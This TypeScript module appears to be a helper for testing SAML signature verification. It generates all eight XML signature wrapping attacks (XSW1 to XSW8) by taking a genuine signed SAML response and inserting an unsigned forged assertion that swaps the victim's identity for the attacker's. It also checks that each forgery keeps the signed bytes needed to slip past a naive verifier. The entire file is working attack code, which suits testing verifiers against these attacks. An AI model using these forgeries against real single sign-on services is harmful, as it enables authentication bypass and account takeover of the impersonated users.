/** A response of a SAML provider taken apart. */
interface Parts {
  readonly response: string
  /** The response without its own signature. */
  readonly unsignedResponse: string
  readonly responseSignature: string
  readonly assertion: string
  /** The assertion without its signature: the bytes that the signature covers. */
  readonly unsignedAssertion: string
  readonly assertionSignature: string
  /** An assertion of the attacker, not signed. */
  readonly evil: string
}

const signaturePattern = /<(?:ds:)?Signature[\s>][^]*?<\/(?:ds:)?Signature>/

function take(pattern: RegExp, text: string): string {
  const [found] = pattern.exec(text) ?? []
  if (found === undefined) throw new Error(`the response has no ${pattern.source}`)
  return found
}

function partsOf(response: string, victim: string, attacker: string): Parts {
  const assertion = take(/<saml:Assertion[^]*<\/saml:Assertion>/, response)
  const assertionSignature = take(signaturePattern, assertion)
  const responseSignature = take(signaturePattern, response.replace(assertion, ''))
  const unsignedAssertion = assertion.replace(assertionSignature, '')
  const evil = unsignedAssertion.replace(/ ID="[^"]*"/, ' ID="_evil"').replaceAll(victim, attacker)
  return {
    response,
    unsignedResponse: response.replace(responseSignature, ''),
    responseSignature,
    assertion,
    unsignedAssertion,
    assertionSignature,
    evil,
  }
}

function inside(element: string, content: string): string {
  return element.replace(/<\/[\w:]+>$/, (end) => `${content}${end}`)
}

/** The assertion of the attacker with a signature, which is after the issuer, as in every signed assertion. */
function signedBy(evil: string, signature: string): string {
  return evil.replace('</saml:Issuer>', `</saml:Issuer>${signature}`)
}

function evilResponse({ response, assertion, evil, responseSignature }: Parts, around: (signature: string) => string): string {
  return response
    .replace(assertion, evil)
    .replace(/ ID="[^"]*"/, ' ID="_evil_response"')
    .replace(responseSignature, around(responseSignature))
}

const objectOf = (content: string) => `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${content}</ds:Object>`
const extensionsOf = (content: string) => `<samlp:Extensions>${content}</samlp:Extensions>`
const declared = (xml: string) => xml.replace(/^<\?xml[^>]*\?>\s*/, '')

/**
 * The eight kinds of signature wrapping (XSW1 to XSW8) of Somorovsky et al., "On Breaking SAML" (USENIX Security 2012). In each the signed bytes are
 * still in the document, so a verifier that follows the reference finds them, and a reader finds the assertion of the attacker.
 */
const kinds: Readonly<Record<string, (parts: Parts) => string>> = {
  'XSW1, the signed response inside the signature of a false one': (parts) =>
    evilResponse(parts, (signature) => inside(signature, declared(parts.unsignedResponse))),
  'XSW2, the signed response before the detached signature of a false one': (parts) =>
    evilResponse(parts, (signature) => `${declared(parts.unsignedResponse)}${signature}`),
  'XSW3, a false assertion before the signed one': ({ response, assertion, evil }) => response.replace(assertion, `${evil}${assertion}`),
  'XSW4, the signed assertion inside a false one': ({ response, assertion, evil }) => response.replace(assertion, inside(evil, assertion)),
  'XSW5, a false assertion with the signature, and the signed one after it': ({ response, assertion, ...parts }) =>
    response.replace(assertion, `${signedBy(parts.evil, parts.assertionSignature)}${parts.unsignedAssertion}`),
  'XSW6, the signed assertion inside the signature of a false one': ({ response, assertion, ...parts }) =>
    response.replace(assertion, signedBy(parts.evil, inside(parts.assertionSignature, parts.unsignedAssertion))),
  'XSW7, a false assertion in the extensions of the response': ({ response, assertion, evil }) =>
    response.replace(assertion, `${extensionsOf(evil)}${assertion}`),
  'XSW8, the signed assertion in the object of the signature of a false one': ({ response, assertion, ...parts }) =>
    response.replace(assertion, signedBy(parts.evil, inside(parts.assertionSignature, objectOf(parts.unsignedAssertion)))),
}

export const wrappingKinds = Object.keys(kinds)

/** Wraps the signature of a response, so that it asserts the attacker's address beside the victim's. */
export function wrapSignature(kind: string, response: string, victim: string, attacker: string): string {
  const parts = partsOf(response, victim, attacker)
  const wrapped = kinds[kind]?.(parts) ?? ''
  // Otherwise the response would be refused for another reason than the wrapping.
  for (const part of [parts.unsignedAssertion.slice(0, 200), take(/<(?:ds:)?SignatureValue[^]*?<\//, parts.assertionSignature), attacker])
    if (!wrapped.includes(part)) throw new Error(`${kind} leaves no signed assertion in the response`)
  return wrapped
}
